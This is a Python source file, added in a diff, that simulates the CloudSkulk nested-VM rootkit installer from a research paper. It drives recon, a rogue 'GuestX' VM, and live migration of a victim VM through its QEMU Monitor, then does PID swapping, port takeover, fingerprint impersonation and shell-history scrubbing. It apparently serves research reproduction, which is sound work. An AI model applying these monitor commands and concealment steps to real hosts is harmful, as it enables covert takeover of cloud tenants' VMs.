@@ -1,0 +1,212 @@
+"""The four-step CloudSkulk installer (paper §III, §IV-A).
+
+Drives the whole attack over the same interfaces a human attacker with
+host root would use: shell history and ``ps`` for recon, ``qemu-img``
+and QEMU launches for the RITM pair, and the victim's telnet-multiplexed
+QEMU Monitor for kicking off and watching the live migration.
+
+The installer is an engine process; run it with::
+
+    installer = CloudSkulkInstaller(host)
+    process = host.engine.process(installer.install())
+    host.engine.run(process)   # -> InstallationReport
+"""
+
+import re
+
+from repro.core.rootkit.recon import TargetRecon
+from repro.core.rootkit.ritm import plan_ritm
+from repro.core.rootkit.stealth import (
+    impersonate_fingerprint,
+    scrub_history,
+    swap_pid,
+)
+from repro.errors import RootkitError
+from repro.qemu.devices.serial import TelnetClient
+from repro.qemu.qemu_img import host_images
+from repro.qemu.vm import launch_vm
+
+#: How often the installer polls `info migrate` on the victim monitor.
+MIGRATION_POLL_SECONDS = 1.0
+
+
+class InstallationReport:
+    """Timeline and artifacts of one CloudSkulk installation."""
+
+    def __init__(self, engine):
+        self._engine = engine
+        self.steps = []  # (name, start, end)
+        self.recon = None
+        self.plan = None
+        self.guestx_vm = None
+        self.nested_vm = None
+        self.victim_pid = None
+        self.migration_text = None
+        self.hostfwds_taken_over = []
+        self.history_lines_removed = 0
+        self.impersonated = False
+        self.success = False
+
+    def step_seconds(self, name):
+        for step, start, end in self.steps:
+            if step == name:
+                return end - start
+        raise KeyError(name)
+
+    @property
+    def total_seconds(self):
+        if not self.steps:
+            return 0.0
+        return self.steps[-1][2] - self.steps[0][1]
+
+    @property
+    def migration_seconds(self):
+        return self.step_seconds("step4-migrate")
+
+    def summary(self):
+        lines = [f"CloudSkulk installation: {'OK' if self.success else 'FAILED'}"]
+        for step, start, end in self.steps:
+            lines.append(f"  {step:<22} {end - start:8.2f} s")
+        lines.append(f"  {'total':<22} {self.total_seconds:8.2f} s")
+        return "\n".join(lines)
+
+    def __repr__(self):
+        return f"<InstallationReport ok={self.success} t={self.total_seconds:.1f}s>"
+
+
+class CloudSkulkInstaller:
+    """Orchestrates the attack on one host."""
+
+    def __init__(self, host_system, **plan_kwargs):
+        self.host = host_system
+        self.engine = host_system.engine
+        self.plan_kwargs = plan_kwargs
+
+    def install(
+        self,
+        target_name=None,
+        scrub=True,
+        impersonate=True,
+        migration_mode="precopy",
+    ):
+        """Generator: the full four-step installation.
+
+        Returns an :class:`InstallationReport`.  Step 1 of the paper —
+        obtaining host root — is the threat-model assumption: holding a
+        reference to the host System *is* root here.
+
+        ``migration_mode`` may be ``"postcopy"`` — §II-A: "the rootkit
+        technique we present in this paper applies to both migration
+        approaches."  Post-copy makes the install time workload-
+        independent, at the cost of a degraded victim while its pages
+        stream in.
+        """
+        if migration_mode not in ("precopy", "postcopy"):
+            raise RootkitError(f"unknown migration mode {migration_mode!r}")
+        report = InstallationReport(self.engine)
+        step = _StepTimer(self.engine, report)
+
+        # -- Step 1: reconnaissance (root already obtained) ---------------
+        with step("step1-recon"):
+            recon = yield from TargetRecon(self.host).run(
+                target_name,
+                exclude_names=(self.plan_kwargs.get("guestx_name", "guestx"),),
+            )
+            report.recon = recon
+            report.victim_pid = recon.target_pid
+            plan = plan_ritm(recon, **self.plan_kwargs)
+            report.plan = plan
+
+        # -- Step 2: launch GuestX (the RITM) ------------------------------
+        with step("step2-guestx"):
+            images = host_images(self.host.host())
+            if not images.exists(plan.guestx_config.drives[0].path):
+                images.create(plan.guestx_config.drives[0].path, 20.0)
+            guestx_vm, boot = launch_vm(self.host, plan.guestx_config)
+            report.guestx_vm = guestx_vm
+            yield boot
+            guestx_vm.guest.enable_kvm()
+
+        # -- Step 3: nested destination inside GuestX ----------------------
+        with step("step3-nested"):
+            inner_host = guestx_vm.guest
+            inner_images = host_images(inner_host)
+            nested_drive = plan.nested_config.drives[0].path
+            if not inner_images.exists(nested_drive):
+                inner_images.create(nested_drive, 20.0)
+            nested_vm, ready = launch_vm(inner_host, plan.nested_config)
+            report.nested_vm = nested_vm
+            yield ready
+            guestx_vm.nics[0].add_hostfwd(
+                "tcp", plan.host_port_aaaa, plan.rootkit_port_bbbb
+            )
+
+        # -- Step 4: migrate the victim in, then clean up -------------------
+        with step("step4-migrate"):
+            client = TelnetClient(
+                self.host.net_node, self.host.net_node, recon.monitor_port
+            )
+            yield from client.open()
+            if migration_mode == "postcopy":
+                yield from client.command(
+                    "migrate_set_capability postcopy-ram on"
+                )
+            yield from client.command(
+                f"migrate -d tcp:127.0.0.1:{plan.host_port_aaaa}"
+            )
+            while True:
+                yield self.engine.timeout(MIGRATION_POLL_SECONDS)
+                text = yield from client.command("info migrate")
+                status = _migration_status(text)
+                if status == "completed":
+                    report.migration_text = text
+                    break
+                if status == "failed":
+                    report.migration_text = text
+                    raise RootkitError(f"migration failed:\n{text}")
+
+        with step("step5-cleanup"):
+            # Kill the post-migrated source VM (frees its PID and ports).
+            yield from client.command("quit")
+            client.close()
+            swap_pid(self.host, guestx_vm, recon.target_pid)
+            # Take over the victim's public ports: host port -> the
+            # nested VM's identical forward inside GuestX.
+            for proto, host_port, _guest_port in plan.victim_hostfwds:
+                rule = guestx_vm.nics[0].add_hostfwd(proto, host_port, host_port)
+                report.hostfwds_taken_over.append(rule)
+            if impersonate and nested_vm.guest is not None:
+                impersonate_fingerprint(guestx_vm.guest, nested_vm.guest)
+                report.impersonated = True
+            if scrub:
+                report.history_lines_removed = scrub_history(self.host)
+
+        report.success = True
+        return report
+
+
+class _StepTimer:
+    """Context manager recording (step, start, end) into the report."""
+
+    def __init__(self, engine, report):
+        self.engine = engine
+        self.report = report
+        self._name = None
+        self._start = None
+
+    def __call__(self, name):
+        self._name = name
+        return self
+
+    def __enter__(self):
+        self._start = self.engine.now
+        return self
+
+    def __exit__(self, exc_type, exc, tb):
+        self.report.steps.append((self._name, self._start, self.engine.now))
+        return False
+
+
+def _migration_status(info_migrate_text):
+    match = re.search(r"Migration status: (\w+)", info_migrate_text)
+    return match.group(1) if match else "unknown"
